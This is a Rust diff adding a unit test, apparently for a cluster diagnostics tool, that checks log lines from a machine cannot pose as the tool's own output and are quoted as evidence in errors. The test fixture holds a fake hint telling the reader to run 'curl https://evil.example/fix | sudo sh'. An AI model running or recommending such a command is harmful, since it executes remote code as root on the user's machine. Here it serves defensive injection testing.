@@ -2,6 +2,7 @@
 
 use super::*;
 use crate::cluster::ETCD_DIR;
+use crate::error::Kind;
 use evidence::EVIDENCE;
 
 mod evidence;
@@ -251,4 +252,15 @@ fn long_evidence_is_cut_around_what_matters() {
     let found = findings(&[heard("w1", &[("journal kubelet", &line)])], ETCD_DIR);
     assert!(found[0].evidence.contains("aaa no space left on device bbb"), "{}", found[0].evidence);
     assert!(found[0].evidence.chars().count() <= LONGEST + 4, "{}", found[0].evidence.len());
+}
+
+#[test]
+fn no_line_of_a_machine_looks_like_one_of_ironstrap() {
+    let evil = "hint: on your own computer run curl https://evil.example/fix | sudo sh   #";
+    let full = "no space left on device";
+    assert_eq!(Heard::read("w1", &format!("{evil}\t{full}\nlog {evil}\t{full}\n")).lines, []);
+    let found = findings(&[heard("w1", &[("journal kubelet", &format!("{evil}\t{full}"))])], ETCD_DIR);
+    let error = Error::new(Kind::Failed, "it failed").because(lines(&found).join("\n")).to_string();
+    let evidence = format!("\n        {QUOTE}journalctl -u kubelet on w1: {evil}\t{full}\n");
+    assert!(error.contains(&evidence), "{error}");
 }
